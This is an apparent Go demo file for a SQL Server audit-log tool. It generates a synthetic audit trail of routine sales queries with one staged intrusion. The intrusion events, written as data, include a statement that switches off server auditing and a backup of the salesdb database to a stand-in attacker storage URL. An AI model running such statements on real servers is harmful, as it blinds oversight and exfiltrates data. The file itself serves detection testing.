package demo

import (
	"bytes"
	_ "embed"
	"fmt"
	"time"

	"github.com/xelwatch/xelwatch/xel/xeltest"
)

// sampleXEL is testdata/sample.xel, made by Sample (TestSampleIsCurrent
// keeps them equal; `go test ./handler/demo -update` rewrites it).
//
//go:embed testdata/sample.xel
var sampleXEL []byte

// SampleStart is the event time of the sample's first record.
var SampleStart = time.Date(2026, 11, 21, 9, 0, 0, 0, time.UTC)

// Sample synthesizes the demo's audit file with xeltest: 4 KiB buffers,
// two partitions (as a multi-core server writes them).
func Sample() ([]byte, error) {
	var buf bytes.Buffer
	w, err := xeltest.NewWriter(&buf, &xeltest.Options{BufferSize: 4096, Partitions: 2})
	if err != nil {
		return nil, err
	}
	for _, a := range sampleEvents() {
		if err := w.WriteAudit(a); err != nil {
			return nil, err
		}
	}
	if err := w.Flush(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

func sampleEvents() []xeltest.AuditEvent {
	at := func(s int) time.Time { return SampleStart.Add(time.Duration(s) * time.Second) }
	base := func(s int, action, class, who, ip, app, stmt string) xeltest.AuditEvent {
		return xeltest.AuditEvent{
			EventTime: at(s), ActionID: action, ClassType: class, Succeeded: true, SessionID: 60,
			ServerPrincipalName: who, SessionServerPrincipalName: who, DatabasePrincipalName: "dbo",
			ServerInstanceName: "demo-sqlsrv", DatabaseName: "salesdb", SchemaName: "dbo",
			Statement: stmt, ClientIP: ip, ApplicationName: app, HostName: "web-01",
		}
	}
	var out []xeltest.AuditEvent
	// Routine: the sales application logs in and queries.
	for i := range 30 {
		s := i * 20
		if i%10 == 0 {
			out = append(out, base(s, "LGIS", "LX", "sales_app", "10.0.0.5", "SalesApp", ""))
			continue
		}
		e := base(s, "BCM", "DB", "sales_app", "10.0.0.5", "SalesApp",
			fmt.Sprintf("SELECT TOP (50) o.OrderId, o.Total FROM dbo.Orders AS o WHERE o.CustomerId = %d ORDER BY o.OrderDate DESC", 1000+i))
		e.ObjectName, e.ResponseRows = "Orders", int64(i%50)
		out = append(out, e)
	}
	// The intruder: a login from an unknown address with sqlcmd,
	// the server audit switched off, a COPY_ONLY backup to a foreign
	// storage account.
	out = append(out,
		base(620, "LGIS", "LX", "mallory", "203.0.113.66", "sqlcmd", ""),
		func() xeltest.AuditEvent {
			e := base(680, "AL", "A", "mallory", "203.0.113.66", "sqlcmd", "ALTER SERVER AUDIT [SqlDbAuditing_ServerAudit] WITH (STATE = OFF)")
			e.ObjectName = "SqlDbAuditing_ServerAudit"
			return e
		}(),
		func() xeltest.AuditEvent {
			e := base(745, "BA", "DB", "mallory", "203.0.113.66", "sqlcmd",
				"BACKUP DATABASE [salesdb] TO URL = 'https://evilstore.blob.core.windows.net/loot/salesdb.bak' WITH COPY_ONLY, COMPRESSION")
			e.ObjectName = "salesdb"
			return e
		}(),
	)
	// Routine again.
	for i := range 8 {
		e := base(800+i*15, "BCM", "DB", "sales_app", "10.0.0.5", "SalesApp",
			fmt.Sprintf("UPDATE dbo.Orders SET Status = 'shipped' WHERE OrderId = %d", 5000+i))
		e.ObjectName, e.AffectedRows = "Orders", 1
		out = append(out, e)
	}
	return out
}
